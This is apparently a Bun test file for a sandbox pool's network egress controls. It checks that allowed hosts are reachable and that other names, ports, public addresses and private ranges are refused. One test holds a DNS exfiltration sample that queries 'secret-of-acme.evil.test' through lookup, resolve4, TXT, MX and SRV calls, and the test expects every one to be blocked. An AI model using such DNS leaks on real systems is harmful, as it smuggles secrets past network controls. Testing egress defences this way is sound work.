import { afterAll, expect, test } from 'bun:test';
import type { SandboxCall } from '../../src/sandbox/pool.ts';
import { failure, openPool, program, run } from './pools.ts';

const hostname = '127.0.0.1';
const open = Bun.serve({ port: 0, hostname, fetch: () => new Response('open') });
const NAMES: Record<string, string[]> = {
  'erp.internal': [hostname],
  'crm.internal': [hostname],
  'public.test': ['93.184.215.14'],
};
const asked: string[] = [];
const pool = openPool({
  network: {
    entry: program('main.ts')[1] ?? '',
    allow: () => [`${hostname}:${open.port}`, `*.internal:${open.port}`],
    async lookup(host) {
      asked.push(host);
      const addresses = NAMES[host];
      if (!addresses) throw new Error('ENOTFOUND');
      return addresses.map((address) => ({ address }));
    },
  },
});
afterAll(async () => {
  await pool.close();
  open.stop(true);
});

const fetching = (host: string, hosts: readonly string[] | undefined): [string, Partial<SandboxCall>] => [
  "return (await fetch('http://' + args[0])).text()",
  { args: [host], hosts },
];
const port = String(open.port);
const NOT_AMONG = 'it is not among the hosts that the component may call';

test.each([
  ['a name', 'erp.internal', ['erp.internal']],
  ['a name with its port', 'erp.internal', [`erp.internal:${port}`]],
  ['the names below another', 'erp.internal', ['*.internal']],
  ['an address', hostname, [hostname]],
  ['a range of addresses', hostname, ['127.0.0.0/8']],
  ['nothing, where nothing is said', 'erp.internal', undefined],
])('code reaches what its list has: %s', async (_what, host, hosts) => {
  expect(await run(pool, ...fetching(`${host}:${port}`, hosts))).toBe('open');
});

test.each([
  [
    'another name of the same address',
    `crm.internal:${port}`,
    ['erp.internal'],
    `crm.internal: ${NOT_AMONG}`,
  ],
  [
    'an address whose name it has not asked for',
    `${hostname}:${port}`,
    ['crm.internal'],
    `${hostname}:${port}: ${NOT_AMONG}`,
  ],
  ['another port', `erp.internal:${port}`, ['erp.internal:1'], `${hostname}:${port}: ${NOT_AMONG}`],
  ['what is public', '93.184.215.14:443', ['erp.internal'], `93.184.215.14:443: ${NOT_AMONG}`],
  ['anything, where the list is empty', `erp.internal:${port}`, [], `erp.internal: ${NOT_AMONG}`],
  ['what all may not reach', '10.0.0.1', ['10.0.0.1'], '10.0.0.1:80: it is not on the public internet'],
])('and nothing else, which the error says: not %s', async (_what, host, hosts, told) => {
  const { message } = await failure(run(pool, ...fetching(host, hosts)));
  expect(message).toContain(`(egress refused ${told}`);
});

test('a name that it may not call is asked of nobody, whatever is asked about it', async () => {
  asked.length = 0;
  const dns = "process.getBuiltinModule('dns').promises";
  const body = `return await Promise.all(['lookup', 'resolve4', 'resolveTxt', 'resolveMx', 'resolveSrv']
    .map((way) => ${dns}[way]('secret-of-acme.evil.test').then(() => 'told', () => 'refused')))`;
  expect(await run(pool, body, { hosts: ['public.test'] })).toEqual(Array(5).fill('refused'));
  expect(asked).toEqual([]);
  expect(await run(pool, `return await ${dns}.resolve4('public.test')`, { hosts: ['public.test'] })).toEqual([
    '93.184.215.14',
  ]);
});

test('calls with other lists share no process, and those with the same do', async () => {
  const pids = [];
  for (const hosts of [['a.test'], ['b.test'], undefined, ['a.test']])
    pids.push(await run(pool, 'return process.pid', { hosts }));
  expect(new Set(pids).size).toBe(3);
  expect(pids[3]).toBe(pids[0]);
});
